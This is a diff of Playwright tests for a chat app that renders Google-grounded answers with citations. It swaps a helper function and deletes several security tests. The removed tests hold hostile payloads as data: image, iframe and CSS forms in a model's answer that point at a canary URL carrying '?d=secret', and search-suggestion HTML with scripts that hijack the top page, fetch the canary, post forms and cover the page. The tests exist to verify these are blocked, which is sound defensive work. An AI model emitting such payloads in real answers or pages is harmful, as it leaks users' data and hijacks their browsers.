@@ -1,9 +1,9 @@
-import type { Locator, Page } from "@playwright/test";
-import { startCanary } from "./canary";
-import { ChatPage, settled } from "./chat-page";
+import type { Locator } from "@playwright/test";
+import { askAnything } from "./ask-anything";
+import { settled } from "./chat-page";
 import { expect } from "./fixtures";
 import { test } from "./scripted-fixture";
-import { type Citation, citedText, search } from "./scripted-google";
+import { type Citation, citedText } from "./scripted-google";
 
 const REDIRECT = "https://vertexaisearch.cloud.google.com/grounding-api-redirect/AUZIYQ";
 
@@ -88,12 +88,6 @@ function wrapsOf(reply: Locator): Promise<string[]> {
   );
 }
 
-async function ask(page: Page): Promise<Locator> {
-  const chat = new ChatPage(page);
-  await page.goto("/");
-  return chat.send("Who won Euro 2024?");
-}
-
 const marker = (reply: Locator, name: string) => reply.locator("[data-citation]").getByRole("link", { name });
 
 test("citations are numbered links at the end of their words, and come without moving a letter @phone", async ({
@@ -102,7 +96,7 @@ test("citations are numbered links at the end of their words, and come without m
 }) => {
   google.answerWith(citedText(ANSWER, CITATIONS));
   const release = google.holdAnnotations();
-  const reply = await ask(page);
+  const reply = await askAnything(page);
   await expect(reply).toContainText("and ends here.");
   await expect(reply.locator("[data-citation]")).toHaveCount(0);
   // The colours of code come by themselves.
@@ -138,7 +132,7 @@ test("the sources are listed once each, by number, with title, domain and true a
 }) => {
   google.answerWith(citedText(ANSWER, CITATIONS));
   google.holdAnnotations()();
-  const reply = await ask(page);
+  const reply = await askAnything(page);
   await settled(reply);
   const sources = reply.getByRole("list", { name: "Sources" });
   await expect(sources.getByRole("listitem")).toHaveText([
@@ -162,7 +156,7 @@ test("a citation is reached by keyboard and says what it is", async ({ page, goo
     citedText("Spain won.", [{ words: "Spain won.", url: "https://uefa.com/a", title: "The final" }]),
   );
   google.holdAnnotations()();
-  const reply = await ask(page);
+  const reply = await askAnything(page);
   await settled(reply);
   const link = marker(reply, "1: The final");
   await expect(link).toBeVisible();
@@ -197,7 +191,7 @@ test("a source without an address leads to its entry, and places are Google Maps
     ]),
   );
   google.holdAnnotations()();
-  const reply = await ask(page);
+  const reply = await askAnything(page);
   await settled(reply);
   const entry = reply.getByRole("listitem").filter({ hasText: "report.pdf, page 4" });
   await marker(reply, "1: report.pdf, page 4").click();
@@ -217,7 +211,7 @@ test("many sources of one sentence are shown on demand", async ({ page, google }
   }));
   google.answerWith(citedText("Spain won. So it was.", citations));
   google.holdAnnotations()();
-  const reply = await ask(page);
+  const reply = await askAnything(page);
   await settled(reply);
   await expect(reply.locator("[data-citation]").getByRole("link")).toHaveText(["1", "2", "3"]);
   const entries = reply.getByRole("list", { name: "Sources" }).getByRole("listitem");
@@ -233,7 +227,7 @@ test("what is copied with its formatting has no numbers in it", async ({ page, c
     citedText("Spain won.", [{ words: "Spain won.", url: "https://uefa.com/", title: "uefa.com" }]),
   );
   google.holdAnnotations()();
-  const reply = await ask(page);
+  const reply = await askAnything(page);
   await settled(reply);
   await expect(marker(reply, "1: uefa.com")).toBeVisible();
   await reply.getByRole("button", { name: "Copy" }).click();
@@ -243,193 +237,4 @@ test("what is copied with its formatting has no numbers in it", async ({ page, c
       return (await entry?.getType("text/html"))?.text();
     });
   await expect.poll(html).toContain('<p dir="auto">Spain won.</p>');
-});
-
-test("RN-02 an image in an answer asks nobody for anything, at any moment, and is a chip with its host", async ({
-  page,
-  google,
-}) => {
-  const canary = await startCanary();
-  const evil = `${canary.url}?d=secret`;
-  const forms = [
-    `![inline](${evil})`,
-    `[![inner](${evil})](${evil})`,
-    `![by reference][pic]`,
-    `<img src="${evil}" srcset="${evil} 2x">`,
-    `<picture><source srcset="${evil}"><img src="${evil}"></picture>`,
-    `<video poster="${evil}"></video><link rel="stylesheet" href="${evil}"><link rel="prefetch" href="${evil}">`,
-    `<base href="${canary.url}"><style>body{background:url(${evil})}</style><div style="background:url(${evil})">x</div>`,
-    `<svg><image href="${evil}"/></svg><object data="${evil}"></object><iframe src="${evil}"></iframe>`,
-    `$\\includegraphics{${evil}}$`,
-    `[pic]: ${evil}`,
-  ];
-  google.answerWith(citedText(forms.join("\n\n"), [], 3));
-  const reply = await ask(page);
-  await settled(reply);
-  await expect(reply.getByRole("link", { name: `inline ${new URL(canary.url).host}` })).toBeVisible();
-  await page.reload();
-  await expect(reply.getByText("inline").first()).toBeVisible();
-  expect(canary.hits()).toBe(0);
-  expect(await reply.locator("img, picture, video, iframe, object, link, style").count()).toBe(0);
-  await page.evaluate((url) => fetch(url, { mode: "no-cors" }), canary.url);
-  expect(canary.hits(), "the canary hears what does ask").toBe(1);
-  canary.close();
-});
-
-test("RN-04 a link that only the model knows shows where it leads before it is followed", async ({
-  page,
-  context,
-  google,
-}) => {
-  await context.route(/^https:\/\/(made-up|cited|named)\.example\//, (route) =>
-    route.fulfill({ body: "there" }),
-  );
-  const long = "x".repeat(70);
-  google.answerWith(
-    citedText(
-      `See [this page](https://made-up.example/a), [that one](https://cited.example/b), [mine](https://named.example/c) or [long](https://cited.example/?q=${long}).`,
-      [{ words: "See", url: "https://cited.example/b", title: "Cited" }],
-    ),
-  );
-  google.holdAnnotations()();
-  const chat = new ChatPage(page);
-  await page.goto("/");
-  const reply = await chat.ask("What is at https://named.example/c?");
-  const dialog = page.getByRole("dialog", { name: "Open this link?" });
-  for (const name of ["that one", "mine"]) {
-    const opened = context.waitForEvent("page");
-    await reply.getByRole("link", { name, exact: true }).click();
-    await (await opened).close();
-    await expect(dialog).toBeHidden();
-  }
-  await reply.getByRole("link", { name: "long", exact: true }).click();
-  await expect(dialog).toContainText(long);
-  await page.keyboard.press("Escape");
-  await expect(dialog).toBeHidden();
-  await expect(reply.getByRole("link", { name: "long", exact: true })).toBeFocused();
-  await reply.getByRole("link", { name: "this page" }).press("Enter");
-  await expect(dialog).toContainText("made-up.example");
-  await expect(dialog).toContainText("https://made-up.example/a");
-  const opened = context.waitForEvent("page");
-  await dialog.getByRole("link", { name: "Open link" }).press("Enter");
-  const tab = await opened;
-  await expect(tab).toHaveURL("https://made-up.example/a");
-  expect(await tab.evaluate(() => window.opener)).toBeNull();
-  await expect(dialog).toBeHidden();
-});
-
-const SUGGESTIONS = `<style>
-.container { display: flex; border-radius: 8px; padding: 8px 12px; background-color: rgb(250, 250, 250) }
-@media (prefers-color-scheme: dark) { .container { background-color: rgb(31, 31, 31) } }
-</style>
-<div class="container"><a class="chip" href="https://www.google.com/search?q=euro+2024&client=app">euro 2024 – überall</a></div>
-`;
-
-test.describe("search suggestions", () => {
-  const frameOf = (reply: Locator) => reply.locator("iframe[title='Search suggestions']");
-
-  test.describe("in their frame", () => {
-    // Playwright looks into the frame by scripts, which the frame refuses.
-    test.use({ expectedConsole: [/Blocked script execution/] });
-
-    test("RN-05 RN-06 are shown once, as Google sent them, in light and dark, and open Google in a tab of their own", async ({
-      page,
-      context,
-      google,
-    }) => {
-      await context.route("https://www.google.com/**", (route) => route.fulfill({ body: "Google" }));
-      google.answerWith(citedText("Spain won."), ...search(SUGGESTIONS, SUGGESTIONS, SUGGESTIONS));
-      const reply = await ask(page);
-      await settled(reply);
-      await expect(frameOf(reply)).toHaveCount(1);
-      const src = (await frameOf(reply).getAttribute("src")) ?? "";
-      const response = await page.request.get(src);
-      expect((await response.body()).includes(Buffer.from(SUGGESTIONS)), "the bytes are Google's").toBe(true);
-      expect((await response.text()).replace(SUGGESTIONS, "")).toMatch(
-        /^(<!doctype html>)?(<(meta|base) [^>]*>)*$/,
-      );
-      const frame = reply.frameLocator("iframe[title='Search suggestions']");
-      const container = frame.locator(".container");
-      await expect(container).toHaveCSS("background-color", "rgb(250, 250, 250)");
-      await page.emulateMedia({ colorScheme: "dark" });
-      await expect(container).toHaveCSS("background-color", "rgb(31, 31, 31)");
-      const [answer, shown] = [
-        await reply.locator("[data-part=content]").boundingBox(),
-        await container.boundingBox(),
-      ];
-      expect(shown?.width, "as wide as the answer").toBeGreaterThanOrEqual((answer?.width ?? 0) - 1);
-      const opened = context.waitForEvent("page");
-      await frame.getByText("euro 2024 – überall").click();
-      const tab = await opened;
-      await expect(tab).toHaveURL("https://www.google.com/search?q=euro+2024&client=app");
-      expect(await tab.evaluate(() => window.opener)).toBeNull();
-      await expect(container, "the frame stays what it is").toBeVisible();
-    });
-  });
-
-  test.describe("that mean harm", () => {
-    test.use({
-      expectedConsole: [/Blocked|Refused|sandboxed|Content Security Policy|violates|Unsafe attempt/],
-    });
-
-    test("RN-07 stay in their box: nothing runs, loads, submits, moves on or covers the page", async ({
-      page,
-      google,
-    }) => {
-      const canary = await startCanary();
-      const evil = canary.url;
-      google.answerWith(
-        ...search(`
-          <base href="${evil}" target="_top"><meta http-equiv="refresh" content="0;url=${evil}">
-          <meta http-equiv="content-security-policy" content="default-src *">
-          <script>parent.document.title = "taken"; top.location = "${evil}"; fetch("${evil}")</script>
-          <script src="${evil}"></script><img src="${evil}" onerror="top.location='${evil}'">
-          <link rel="stylesheet" href="${evil}"><style>@import "${evil}"; body { background: url(${evil}) }
-          .cover { position: fixed; inset: 0; width: 9999px; height: 9999px; z-index: 2147483647; background: red }
-          ${".a { color: red } ".repeat(20000)}</style>
-          <iframe src="${evil}"></iframe><object data="${evil}"></object><video src="${evil}" autoplay></video>
-          <form action="${evil}" method="post"><button class="cover">Send</button></form>
-          <a id="top" href="${evil}" target="_top">top</a>
-        `),
-        citedText("Spain won."),
-      );
-      const reply = await ask(page);
-      await settled(reply);
-      const frame = reply.frameLocator("iframe[title='Search suggestions']");
-      await frame.getByRole("button", { name: "Send" }).click();
-      const url = page.url();
-      await frame
-        .locator("#top")
-        .evaluate((link: HTMLElement) => link.click())
-        .catch(() => undefined);
-      const box = await frameOf(reply).boundingBox();
-      expect(box?.height, "no higher than its place").toBeLessThan(80);
-      const below = await page.evaluate(
-        ({ x, y }) => document.elementFromPoint(x, y)?.closest("iframe") === null,
-        { x: (box?.x ?? 0) + 20, y: (box?.y ?? 0) + (box?.height ?? 0) + 30 },
-      );
-      expect(below, "it covers nothing").toBe(true);
-      expect(page.url()).toBe(url);
-      await expect(page).not.toHaveTitle("taken");
-      expect(canary.hits()).toBe(0);
-      await page.goto(`${(await frameOf(reply).getAttribute("src")) ?? ""}`);
-      await expect(page.getByRole("button", { name: "Send" })).toBeVisible();
-      expect(canary.hits(), "nor as a page of its own").toBe(0);
-      canary.close();
-    });
-  });
-
-  test("are for the owner only, and only where there are any", async ({ page, google, browser, app }) => {
-    google.answerWith(...search(SUGGESTIONS), citedText("Spain won."));
-    const reply = await ask(page);
-    await settled(reply);
-    const src = (await frameOf(reply).getAttribute("src")) ?? "";
-    expect((await page.request.get(src)).status()).toBe(200);
-    for (const other of [src.replace(/0$/, "1"), src.replace(/0$/, "x"), src.replace(/0$/, "-1")]) {
-      expect((await page.request.get(other)).status(), other).toBe(404);
-    }
-    const stranger = await browser.newContext();
-    expect((await stranger.request.get(app.url + src)).status()).toBe(404);
-    await stranger.close();
-  });
 });
